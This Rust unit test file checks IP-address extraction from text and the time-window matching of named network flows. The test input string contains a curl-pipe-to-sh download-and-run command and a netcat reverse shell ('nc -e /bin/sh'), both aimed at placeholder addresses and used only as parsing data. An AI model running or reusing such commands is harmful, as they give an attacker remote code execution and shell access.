use super::*;

#[test]
fn addresses_are_found_in_any_surroundings() {
    let text = "curl -s http://203.0.113.9:8080/a | sh; nc -e /bin/sh 198.51.100.7 4444; ping6 2001:db8::5; echo 10:20:30 1.2.3 127.0.0.1 version 1.2.3.4.5";
    let found: Vec<String> = addresses_in(text).collect();
    assert_eq!(found, ["203.0.113.9", "198.51.100.7", "2001:db8::5"]);
}

#[test]
fn named_flows_fit_from_the_start_to_a_minute_after_the_end() {
    let second = NS_PER_SECOND;
    let flows: Vec<NamedFlow> = [5, 10, 75, 81]
        .into_iter()
        .zip(0..)
        .map(|(at, event)| NamedFlow {
            time: at * second,
            event,
        })
        .collect();
    let events = |started: i64, ended: Option<i64>| -> Vec<EventNumber> {
        let ended = ended.map(|ended| ended * second);
        let found = fitting(&flows, started * second, ended);
        found.map(|flow| flow.event).collect()
    };
    assert_eq!(events(6, Some(20)), [1, 2]);
    assert_eq!(events(5, Some(5)), [0, 1]);
    assert_eq!(events(6, None), [1, 2, 3]);
}
